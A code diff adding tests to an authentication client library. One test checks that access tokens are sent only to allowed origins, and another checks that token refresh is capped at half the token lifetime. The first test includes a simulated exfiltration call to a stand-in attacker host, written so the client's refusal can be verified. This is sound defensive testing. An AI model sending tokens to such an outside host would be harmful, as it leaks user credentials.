@@ -165,6 +165,47 @@ describe('latchkey/client in Node (body mode)', () => {
     await expect(offline.login(email, PASSWORD)).rejects.toMatchObject({ code: 'network_error', status: 0 });
   });
 
+  it('sends the access token to no origin but its own and resourceOrigins', async () => {
+    const email = await registeredEmail();
+    const { client, count } = countedClient();
+    await client.login(email, PASSWORD);
+    const refreshesBefore = count('/auth/refresh');
+    await expect(client.authFetch('https://attacker.example/collect')).rejects.toThrow(
+      'authFetch sends the access token only to resourceOrigins; https://attacker.example is not one',
+    );
+    await expect(
+      client.authFetch(`${server.baseUrl.replace('127.0.0.1', 'localhost')}/api/me`),
+    ).rejects.toThrow(TypeError);
+    expect(count('/auth/refresh')).toBe(refreshesBefore);
+    const api = createClient({
+      baseUrl: server.baseUrl,
+      refreshToken: memoryStore(),
+      resourceOrigins: ['https://api.example'],
+    });
+    await expect(api.authFetch('https://api.example/orders')).rejects.toMatchObject({
+      code: 'missing_token',
+    });
+  });
+
+  it('never renews more than half a token’s lifetime ahead, so a short lifetime does not refresh every call', async () => {
+    const email = await registeredEmail();
+    const counts = new Map<string, number>();
+    const client = createClient({
+      baseUrl: server.baseUrl,
+      refreshToken: memoryStore(),
+      // Longer than the 900 s lifetime: taken as 450 s.
+      refreshAheadSeconds: 1000,
+      fetch: (input, init) => {
+        const path = new URL(input instanceof Request ? input.url : String(input)).pathname;
+        counts.set(path, (counts.get(path) ?? 0) + 1);
+        return fetch(input, init);
+      },
+    });
+    await client.login(email, PASSWORD);
+    for (let call = 0; call < 5; call++) await client.me();
+    expect(counts.get('/auth/refresh') ?? 0).toBe(0);
+  });
+
   it('refuses bad options when it is made', () => {
     expect(() => createClient({ baseUrl: 'localhost:3000' })).toThrow('baseUrl must be an http(s) URL');
     expect(() => createClient({ baseUrl: 'http://x', refreshAheadSeconds: -1 })).toThrow(
